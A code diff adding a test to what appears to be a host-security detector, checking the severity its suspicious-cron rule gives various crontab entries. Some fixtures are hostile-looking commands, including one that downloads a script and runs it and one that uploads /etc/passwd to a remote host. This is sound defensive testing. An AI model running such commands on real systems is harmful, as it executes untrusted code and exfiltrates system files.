@@ -251,6 +251,18 @@ test("ioc-match: a relative path named in a question is the end of a path, or a 
   t.same(findings(ioc?.evaluate(other, { entities: ents }) ?? []), [], "the same file name under another directory is not it");
 });
 
+test("suspicious-cron: a data file refreshed over HTTPS with nothing running it is an observation", async (t) => {
+  const cron = (command: string) => run("suspicious-cron", host({ crontab: [{ command, path: "/etc/cron.d/x" }] }))[0]?.severity;
+  t.equal(cron("root curl -sS -o /etc/bind/db.root https://www.internic.net/domain/named.root && /usr/sbin/rndc reload"), "info", "root hints");
+  t.equal(cron("root wget -qO /etc/nginx/conf.d/drop.list https://www.spamhaus.org/drop/drop.txt && nginx -s reload"), "info", "a blocklist (wget's -qO)");
+  t.equal(cron("root curl -s https://example.org/list.txt > /etc/nginx/blocklist.conf"), "info", "a redirection into the file");
+  t.equal(cron("root curl -fsSL -o /usr/local/bin/tool https://get.example.io/tool"), "low", "a program's directory: still low");
+  t.equal(cron("root curl -s -o /opt/x/update.sh https://get.example.io/u.sh && sh /opt/x/update.sh"), "low", "run after the fetch");
+  t.equal(cron("root curl -s -o /opt/x/data https://get.example.io/d && chmod +x /opt/x/data"), "low", "made runnable");
+  t.equal(cron("root curl -d @/etc/passwd -o /var/log/x https://example.org/u"), "low", "an upload is no refresh");
+  t.equal(cron("root curl -s -o /etc/x.txt http://203.0.113.7/x.txt"), undefined, "plain HTTP from an address keeps the detection's own severity (medium)");
+});
+
 test("install-script-payload: what an install's processes do, found by npm's environment, an installing ancestor or node_modules", async (t) => {
   const installed = (cmdline: string, extra: { env?: boolean; parent?: string; cwd?: string; sockets?: Row[] } = {}) =>
     run(
